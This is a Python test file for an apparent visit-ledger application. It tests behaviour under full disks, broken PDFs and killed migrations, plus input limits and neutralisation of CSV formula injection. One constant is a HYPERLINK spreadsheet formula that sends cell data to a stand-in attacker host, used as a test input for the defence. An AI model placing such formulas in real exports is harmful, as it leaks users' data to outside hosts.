"""Faults injected where a real one cannot be made on every machine (ENOSPC inside a library,
QPainter.end() failing), and the outputs' own defences: whole files only, stale temp files
removed, formulas neutralised in every CSV."""
from __future__ import annotations

import csv
import errno
import io
import os
import sqlite3
import time as clock_time
import zipfile
from datetime import date, time

import pytest

from keeper import paths
from keeper.core import ledger
from keeper.core.files import csv_text, neutralise
from keeper.core.importing import import_ledger, write_rejects
from keeper.core.ledger import NewVisit
from keeper.errors import EnvironmentProblem, UserError
from keeper.core.exports import export_history
from keeper.reports.export import export_month
from keeper.store import connection

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.fixture
def october(qapp, db, station, pinned_now):
    for day in (1, 2, 9):
        ledger.log_visit(NewVisit(services=["water"], group="rider", day=date(2026, 10, day),
                                  at=time(12, 0)))


def test_a_full_disk_inside_xlsxwriter_is_the_full_disk_message(october, tmp_path, monkeypatch):
    import xlsxwriter.workbook
    from xlsxwriter.exceptions import FileCreateError

    def full(self):
        raise FileCreateError(OSError(errno.ENOSPC, "No space left on device"))

    monkeypatch.setattr(xlsxwriter.workbook.Workbook, "_store_workbook", full)
    with pytest.raises(EnvironmentProblem, match="is full. Free some space"):
        export_month("2026-10", tmp_path / "out", ("xlsx",))
    assert list((tmp_path / "out").iterdir()) == [] and export_history("2026-10") == []


def test_a_pdf_that_qpainter_could_not_finish_is_never_kept(october, tmp_path, monkeypatch):
    from keeper.reports import pdf

    class FailingPainter(pdf.QPainter):
        def end(self):
            super().end()
            return False  # what Qt says when the rest of the file could not be written

    monkeypatch.setattr(pdf, "QPainter", FailingPainter)
    with pytest.raises(EnvironmentProblem):
        export_month("2026-10", tmp_path / "out", ("pdf",))
    assert list((tmp_path / "out").iterdir()) == []


def test_a_cut_short_pdf_is_found_and_never_kept(october, tmp_path, monkeypatch):
    from keeper.core import files
    from keeper.reports import pdf

    real = pdf.write_pdf

    def cut_short(summary, path, **kwargs):
        pages = real(summary, path, **kwargs)
        with open(path, "r+b") as handle:  # what a full disk did with QPainter.end() == True
            handle.truncate(os.path.getsize(path) // 2)
        return pages

    monkeypatch.setattr(pdf, "write_pdf", cut_short)
    monkeypatch.setattr(files, "_nearly_full", lambda folder: False)  # a failing disk
    with pytest.raises(EnvironmentProblem, match="did not read back whole"):
        export_month("2026-10", tmp_path / "out", ("pdf",))
    assert list((tmp_path / "out").iterdir()) == []


def test_stale_part_files_of_killed_exports_are_removed(october, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    stale, fresh = out / ".CY-017_2026-10.pdf.k1ll3d.part", out / ".CY-017_2026-10.xlsx.now.part"
    stale.write_bytes(b"%PDF-half")
    fresh.write_bytes(b"PK half")  # another export may still be writing it
    two_hours_ago = clock_time.time() - 7200
    os.utime(stale, (two_hours_ago, two_hours_ago))
    export_month("2026-10", out, ("pdf",))
    assert not stale.exists() and fresh.exists()
    assert (out / "CY-017_2026-10.pdf").read_bytes().startswith(b"%PDF-")


def test_a_full_disk_behind_cannot_rollback_is_still_a_full_disk(db):
    try:
        try:
            raise sqlite3.OperationalError("database or disk is full")
        except sqlite3.OperationalError:
            raise sqlite3.OperationalError("cannot rollback - no transaction is active")
    except sqlite3.OperationalError as exc:
        problem = connection.database_error(exc)
    assert "is full. Free some space" in problem.message()
    locked = connection.database_error(sqlite3.OperationalError("database is locked"))
    assert "is busy" in locked.message()


# -- formula injection (OWASP: a leading apostrophe) -------------------------------------------
@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_is_neutralised(text):
    assert neutralise(text) == "'" + text
    written, rows = csv_text([[text, 5, -3]])
    assert rows == 1 and next(csv.reader(io.StringIO(written))) == ["'" + text, "5", "-3"]


def test_plain_text_numbers_and_dates_are_left_alone():
    for value in ("美团", "2026-10-03", "14:05", "", "a=b"):
        assert neutralise(value) == value


def _ledger_with_platform(tmp_path, platform: str):
    path = tmp_path / "old.csv"
    path.write_text(f"日期,服务项目,平台,人次\n2026-10-03,饮水,{platform},1\n"
                    f"2026-10-04,飞行,{platform},1\n", encoding="utf-8")
    return path


def test_the_bundles_visits_csv_neutralises_a_platform_formula(october, tmp_path):
    imported = import_ledger(_ledger_with_platform(tmp_path, '"' + HYPERLINK.replace('"', '""')
                                                   + '"'), skip_bad=True)
    assert imported.added == 1
    result = export_month("2026-10", tmp_path / "out", ("bundle",))
    with zipfile.ZipFile(result.files[0]) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("visits.csv").decode("utf-8"))))
    platforms = {row["platform"] for row in rows}
    assert "'" + HYPERLINK in platforms and HYPERLINK not in platforms


def test_the_rejects_file_neutralises_a_formula(db, pinned_now, tmp_path):
    target = tmp_path / "rejected.csv"
    import_ledger(_ledger_with_platform(tmp_path, '"' + HYPERLINK.replace('"', '""') + '"'),
                  skip_bad=True, before_store=lambda r: write_rejects(r, target))
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert rows[1][2] == "'" + HYPERLINK and rows[1][1] == "飞行"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


# -- the database file ---------------------------------------------------------------------
def test_a_killed_copy_before_migrating_leaves_no_file_with_a_backups_name(data_dir, monkeypatch):
    from keeper.store import migrations

    paths.ensure_data_dirs()
    conn = sqlite3.connect(paths.db_path(), isolation_level=None)
    migrations.migrate(conn, target=1)
    conn.close()

    def killed(fd):
        raise KeyboardInterrupt  # the moment a kill lands: the copy is written, not flushed

    monkeypatch.setattr(connection.os, "fsync", killed)
    with pytest.raises(KeyboardInterrupt):
        connection.open_database(paths.db_path())
    assert os.listdir(paths.backups_dir()) == []  # no 0-byte keeper-v1-before-migration-…


def test_another_programs_database_is_refused_and_left_as_it_is(data_dir):
    paths.ensure_data_dirs()
    conn = sqlite3.connect(paths.db_path())
    conn.execute("CREATE TABLE photos (id INTEGER PRIMARY KEY, name TEXT)")
    conn.commit()
    conn.close()
    before = paths.db_path().read_bytes()
    with pytest.raises(EnvironmentProblem, match="is not a keeper database"):
        connection.open_database(paths.db_path())
    assert paths.db_path().read_bytes() == before
    assert os.listdir(paths.backups_dir()) == []


def test_an_empty_file_is_not_a_keeper_database(data_dir):
    paths.ensure_data_dirs()
    paths.db_path().write_bytes(b"")
    with pytest.raises(EnvironmentProblem, match=r"is not a keeper database \(0 bytes\)"):
        connection.open_database(paths.db_path())
    assert paths.db_path().stat().st_size == 0


# -- what the attendant types ----------------------------------------------------------------
@pytest.mark.parametrize("day", [date(1, 1, 1), date(1900, 5, 1), date(1999, 12, 31)])
def test_a_visit_before_2000_is_refused(db, pinned_now, day):
    with pytest.raises(UserError, match="is before 2000"):
        ledger.log_visit(NewVisit(services=["water"], day=day))


def test_a_note_too_long_is_refused_not_cut(db, pinned_now):
    with pytest.raises(UserError, match="The note has 120000 characters; at most 2000"):
        ledger.log_visit(NewVisit(services=["water"], note="长" * 120_000))
    kept = ledger.log_visit(NewVisit(services=["water"], note="长" * 2000))
    assert kept > 0


def test_an_imported_note_too_long_is_a_rejected_row(db, pinned_now, tmp_path):
    path = tmp_path / "old.csv"
    path.write_text("日期,服务项目,备注\n2026-10-03,饮水," + "x" * 2001 + "\n",
                    encoding="utf-8")
    result = import_ledger(path)
    assert result.added == 0 and "the note has 2001 characters" in \
        result.rejected[0].reason.message()
